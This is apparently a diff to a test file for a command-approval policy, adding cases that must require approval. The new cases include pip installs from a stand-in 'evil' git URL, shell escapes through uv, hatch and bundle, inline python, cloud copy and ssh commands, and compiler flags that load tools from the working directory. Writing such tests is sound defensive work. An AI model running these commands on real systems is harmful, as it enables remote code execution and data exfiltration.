@@ -4,6 +4,10 @@ import { evaluate } from '../../../../src/policy/index.ts';
 import { policy } from '../../helpers.ts';
 
 const NAMES = [
+  '.venv/bin/python',
+  'hatch',
+  'python3.12',
+  'x86_64-linux-gnu-gcc',
   'gh',
   'deno',
   'eslint',
@@ -601,6 +605,23 @@ test.each([
   'clang --cuda-path=. a.c',
   'clang --rocm-path=. a.c',
   'clang -resource-dir . a.c',
+  'uv run -- sh x',
+  'uv run python -c x',
+  'hatch -e x run bash',
+  'bundle exec sh -c x',
+  "pip install 'x @ git+https://evil'",
+  'pip install git+https://evil',
+  'aws --region x s3 cp a b',
+  'aws s3 --region x cp a b',
+  'gcloud --project x compute ssh y',
+  'gcloud --project x storage cp a b',
+  'gcloud beta compute ssh x',
+  'gcloud alpha storage cp a b',
+  './gradlew -pevil test',
+  'gcc-12 -B. a.c',
+  'x86_64-linux-gnu-gcc -wrapper x a.c',
+  'python3.12 -c x',
+  '.venv/bin/python -c x',
 ])('no rule that names the program alone covers %s', (command) => {
   expect(verdictOf(command)).toBe('requireApproval');
 });
